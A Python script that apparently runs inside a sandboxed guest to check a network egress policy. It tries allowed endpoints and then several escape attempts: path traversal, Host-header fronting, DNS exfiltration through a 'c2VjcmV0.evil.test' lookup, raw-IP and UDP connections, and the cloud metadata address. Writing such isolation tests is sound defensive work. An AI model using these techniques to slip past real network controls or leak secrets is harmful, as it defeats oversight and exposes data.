"""Runs inside a guest: tries everything once and prints what it saw as one JSON object."""

import json
import os
import socket
import subprocess
import time
import urllib.request

# A documentation address (RFC 5737): nobody's.
NOBODY = "198.51.100.7"


def curl(url, *options):
    run = subprocess.run(
        ["curl", "-sS", "--max-time", "20", "-H", "Accept: application/json", "-w", "\n%{http_code}", *options, url],
        capture_output=True, text=True)
    body, _, status = run.stdout.rpartition("\n")
    seen = {"curl": run.returncode, "status": int(status or 0)}
    try:
        seen["reason"] = json.loads(body).get("reason")
    except ValueError:
        pass
    return seen


def git(url):
    run = subprocess.run(["git", "clone", "--quiet", url, "/tmp/clone"], capture_output=True, text=True)
    return open("/tmp/clone/README").read().strip() if run.returncode == 0 else run.stderr


def upload(url):
    request = urllib.request.Request(url, data=b"x" * 5_000_000, method="POST")
    return json.load(urllib.request.urlopen(request, timeout=60))["length"]


def closed(attempt):
    try:
        attempt()
        return "open"
    except OSError:
        return "closed"


def udp(port):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        probe.settimeout(0.5)
        probe.connect((NOBODY, port))
        probe.send(b"anything")
        probe.recv(1500)


def without_variables(url):
    script = f"import urllib.request as u; print(u.urlopen('{url}', timeout=20).status)"
    path = {"PATH": os.environ["PATH"]}
    run = subprocess.run(["python3", "-c", script], env=path, capture_output=True, text=True)
    return int(run.stdout or 0)


print(json.dumps({
    "clock": time.time(),
    "environment": dict(os.environ),
    "get": curl("https://a.test/v1/get"),
    "python": urllib.request.urlopen("https://a.test/v1/python", timeout=20).status,
    "without-variables": without_variables("https://a.test/v1/plain"),
    "clone": git("https://b.test/git/demo.git"),
    "upload": upload("https://a.test/upload"),
    "post": curl("https://a.test/v1/get", "-d", "x=1"),
    "path": curl("https://a.test/admin"),
    "dot-segments": curl("https://a.test/v1/../admin", "--path-as-is"),
    "fronting": curl("https://a.test/v1/get", "-H", "Host: evil.test"),
    "other-host": curl("https://evil.test/"),
    "dns": closed(lambda: socket.gethostbyname("c2VjcmV0.evil.test")),
    "udp-53": closed(lambda: udp(53)),
    "udp-443": closed(lambda: udp(443)),
    "tcp-5432": closed(lambda: socket.create_connection(("a.test", 5432), timeout=10)),
    "raw-ip": closed(lambda: socket.create_connection((NOBODY, 443), timeout=10)),
    "metadata": closed(lambda: socket.create_connection(("169.254.169.254", 80), timeout=10)),
}))
